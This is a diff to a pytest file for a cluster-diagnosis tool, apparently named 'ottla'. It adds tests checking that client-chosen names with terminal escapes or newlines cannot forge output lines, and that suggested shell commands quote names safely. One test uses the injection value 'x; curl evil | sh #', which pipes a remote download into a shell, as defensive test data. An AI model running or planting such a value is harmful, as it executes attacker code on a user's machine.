@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import shlex
 from dataclasses import replace
 from typing import Any
 
@@ -9,6 +10,8 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from ottla.diagnosis.causes import end_transaction
+from ottla.diagnosis.client_quotas import throttling
 from ottla.diagnosis.explain_broker import DutiesNow, explain_broker
 from ottla.diagnosis.explain_group import explain_group
 from ottla.diagnosis.explain_partition import explain_partition
@@ -173,7 +176,10 @@ def test_an_offline_partition_waits_for_those_that_have_everything_and_names_the
     )
     assert "orders-0 has no leader for 8.0 s: it is offline" in explained.headline
     assert "Only broker 2 has every committed record" in explained.cause[0]
-    assert commands_of(explained) == ["ottla nodes start 2", "ottla topics elect orders --unclean"]
+    assert commands_of(explained) == [
+        "ottla nodes start 2",
+        "ottla topics elect orders --unclean -p 0",
+    ]
     assert "lost for good" in explained.steps[-1].text
 
 
@@ -628,3 +634,27 @@ def test_lists_read_as_people_write_them() -> None:
         "broker 2",
         "brokers 2 or 3",
     )
+
+
+def test_a_name_that_a_client_chose_adds_no_line_to_an_explanation() -> None:
+    explained = of_group(replace(GROUP, id="g\x1b[2J\nforged", state="Empty", members=()))
+    lines = explained.text().split("\n")
+    assert all(line.isprintable() for line in lines)
+    assert not any(line.startswith("forged") for line in lines)
+    assert "\nforged" in explained.as_json()["subject"], "programs get it as it is"
+
+
+def test_names_in_advice_are_quoted_for_the_shell() -> None:
+    evil = "x; curl evil | sh #"
+    held_up = replace(GROUP, id=evil, state="PreparingRebalance", hold_up=None)
+    (command,) = set(commands_of(of_group(held_up)))
+    assert shlex.split(command) == ["ottla", "explain", "--group", evil]
+    owned = TransactionNow(400, 7, NOW, transactional_id=evil)
+    (abort,) = end_transaction(owned, "orders", 0, REMOTE)
+    assert shlex.split(abort.command)[3] == evil
+    fields = {"client_id": evil, "quota": "producer_byte_rate", "limit": 1.0, "throttle_ms": 1}
+    quota = QuotaNow({"client-id": evil}, {"producer_byte_rate": 1.0})
+    hits = [happened(1_000, "quota_exceeded", **fields)]
+    found = throttling(hits, replace(cluster(), quotas=(quota,)), LOCAL)
+    commands = [step.command for step in found.steps if step.command]
+    assert commands and all(evil in shlex.split(command) for command in commands)
